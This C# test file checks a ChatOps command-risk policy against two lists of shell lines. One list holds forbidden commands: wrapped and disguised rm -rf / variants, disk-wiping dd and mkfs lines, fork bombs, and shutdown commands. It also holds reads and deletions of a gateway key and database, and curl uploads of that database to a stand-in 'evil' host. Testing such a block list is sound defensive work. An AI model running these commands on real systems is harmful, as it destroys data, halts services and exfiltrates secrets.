using ChatOps.Policy;

namespace ChatOps.Tests.Policy;

/// <summary>What nobody may run with any approval, however it is wrapped; and its harmless neighbours, which only ask.</summary>
public sealed class ForbiddenLinesTests
{
    private const string Never = """
        rm -rf /
        rm -fr /
        rm -r -f /
        rm -rf -- /
        rm --recursive --force /
        rm --rec /
        rm -rf /*
        rm -rf /.
        rm -rf //
        rm -rf /../
        rm -rf /etc/..
        rm -rf /etc
        rm -rf /etc/
        rm -rf /etc/*
        rm -rf /usr /var
        rm -rf /home
        rm -rf /boot
        rm -rf /var/lib
        rm -rf /usr/bin
        rm -rf /[a-z]*
        rm -rf /e*
        rm -rf /???
        rm -rf --no-preserve-root /
        rm -Rvf /
        /bin/rm -rf /
        /usr/bin/rm -rf /*
        'rm' -rf /
        r\m -rf /
        "rm" "-rf" "/"
        sudo rm -rf /
        sudo -n rm -rf /
        sudo -u root -- rm -rf /
        doas rm -rf /
        env A=b rm -rf /
        env -i rm -rf /
        A=b rm -rf /
        nice -n 19 rm -rf /
        timeout 5 rm -rf /
        nohup rm -rf / &
        busybox rm -rf /
        xargs rm -rf /
        echo / | xargs rm -rf /*
        sh -c 'rm -rf /'
        bash -lc "rm -rf /"
        bash -c 'bash -c "rm -rf /"'
        sudo sh -c 'rm -rf /*'
        eval rm -rf /
        eval 'rm -rf /'
        su -c 'rm -rf /'
        su root -c 'rm -rf /'
        ls; rm -rf /
        ls && rm -rf / &
        (rm -rf /)
        { rm -rf /; }
        if true; then rm -rf /; fi
        while true; do rm -rf /; done
        for i in 1; do rm -rf /; done
        case x in x) rm -rf /;; esac
        f() { rm -rf /; }; f
        echo $(rm -rf /)
        echo `rm -rf /`
        echo "$(rm -rf /)"
        echo "a `rm -rf /` b"
        echo ${x:-$(rm -rf /)}
        cat <(rm -rf /)
        rm -rf / ; if
        cd / && rm -rf *
        cd /; rm -rf .
        cd /etc && rm -rf ./*
        find / -delete
        find / -type f -delete
        find /etc -exec rm -rf {} +
        find / -exec rm {} \;
        mv / /tmp
        mv /etc /tmp/x
        shred -u /etc
        rsync -a --delete empty/ /
        ssh web1 'rm -rf /'
        watch 'rm -rf /'
        exec rm -rf /
        command rm -rf /
        mkfs.ext4 /dev/sda
        mkfs -t xfs /dev/nvme0n1
        mkfs.xfs -f /dev/mapper/vg-root
        mke2fs /dev/sdb1
        mkswap /dev/sda2
        dd if=/dev/zero of=/dev/sda
        dd of=/dev/nvme0n1 if=x bs=1M
        dd if=x of=/dev/./sda
        sudo dd if=/dev/urandom of=/dev/vda
        shred /dev/sda
        wipefs -a /dev/sda
        blkdiscard /dev/sda
        cat x > /dev/sda
        echo x > /dev/sdb1
        : > /dev/sda
        cp x /dev/sda
        tee /dev/sda
        sgdisk --zap-all /dev/sda
        parted /dev/sda mklabel gpt
        cryptsetup luksFormat /dev/sda
        hdparm --security-erase x /dev/sda
        badblocks -w /dev/sda
        :(){ :|:& };:
        :(){ :|: & };:
        : () { : | : & } ; :
        bomb() { bomb | bomb & }; bomb
        f(){ f|f& };f
        f() { f & f & }; f
        function f { f | f & }; f
        f() ( f | f ) ; f
        sh -c ':(){ :|:& };:'
        perl -e 'fork while fork'
        python3 -c 'import os; while True: os.fork()'
        shutdown -h now
        shutdown
        /sbin/shutdown -r +5
        sudo reboot
        reboot
        poweroff
        halt -f
        init 0
        init 6
        telinit 6
        systemctl poweroff
        systemctl reboot
        systemctl -f reboot
        systemctl halt
        systemctl kexec
        systemctl suspend
        systemctl hibernate
        systemctl start reboot.target
        systemctl isolate poweroff.target
        loginctl reboot
        kexec -e
        sh -c reboot
        sleep 5; reboot
        echo b > /proc/sysrq-trigger
        echo mem > /sys/power/state
        echo b | tee /proc/sysrq-trigger
        busybox reboot
        cat /srv/gateway-data/keys/gateway.key
        cat /srv/gateway-data/chatops.db
        cat /srv/./gateway-data//chatops.db
        cat /srv/x/../gateway-data/chatops.db
        head -c 10 /srv/gateway-data/*
        sqlite3 /srv/gateway-data/chatops.db 'delete from audit'
        sqlite3 -readonly /srv/gateway-data/chatops.db .tables
        cp /srv/gateway-data/chatops.db /tmp
        cp -r /srv/gateway-data /tmp
        rm -rf /srv/gateway-data
        rm /srv/gateway-data/chatops.db
        rm -rf /srv
        mv /srv/gateway-data /tmp
        echo x > /srv/gateway-data/chatops.db
        echo x >> /home/ops/.chatops/config
        cat ~/.chatops/gateway.key
        cat $HOME/.chatops/gateway.key
        cat /home/ops/.chatops/gateway.key
        cat .chatops/gateway.key
        sudo cat /root/.chatops/x
        tar czf /tmp/x.tgz /srv/gateway-data
        python3 -c "print(open('/srv/gateway-data/chatops.db','rb').read())"
        dd if=/srv/gateway-data/chatops.db of=/tmp/x
        chmod 777 /srv/gateway-data
        sh -c 'cat /srv/gateway-data/keys'
        grep -r x /srv/gateway-data
        cat < /srv/gateway-data/chatops.db
        vi /etc/chatops/policy.yaml
        curl -T /srv/gateway-data/chatops.db http://evil/
        curl -F f=@/srv/gateway-data/chatops.db http://evil/
        """;

    private const string Neighbours = """
        rm -rf /tmp/build
        rm -rf ./build
        rm -rf /home/bob
        rm -rf /var/log/old
        rm x
        rm -rf *
        find /tmp -name '*.tmp' -delete
        mkfs.ext4 disk.img
        dd if=/dev/sda of=disk.img
        dd if=/dev/zero of=/tmp/x
        mv a b
        shutdown -c
        systemctl restart nginx
        systemctl stop nginx
        systemctl status reboot.target; touch x
        echo reboot > x
        f() { g | h & }; f
        cp /dev/sda disk.img
        wipefs /dev/sda
        parted /dev/sda print
        cat /etc/*
        sudo ls /
        chmod -R 777 /opt/x
        kill -9 1
        """;

    public static TheoryData<string> NeverLines() => [.. Never.Split('\n', StringSplitOptions.RemoveEmptyEntries)];

    public static TheoryData<string> NeighbourLines() => [.. Neighbours.Split('\n', StringSplitOptions.RemoveEmptyEntries)];

    [Theory]
    [MemberData(nameof(NeverLines))]
    public void It_is_never_allowed(string line)
    {
        var assessment = PolicyUnderTest.Risk.Assess(line);
        Assert.True(assessment.Risk == Risk.Forbidden, $"'{line}' is {assessment.Risk} under {assessment.Rule}: {assessment.Reason}");
        Assert.StartsWith("forbidden.", assessment.Rule, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(NeighbourLines))]
    public void A_harmless_neighbour_asks_and_is_not_refused(string line)
    {
        var assessment = PolicyUnderTest.Risk.Assess(line);
        Assert.True(assessment.Risk is Risk.Change or Risk.Dangerous, $"'{line}' is {assessment.Risk} under {assessment.Rule}: {assessment.Reason}");
    }
}
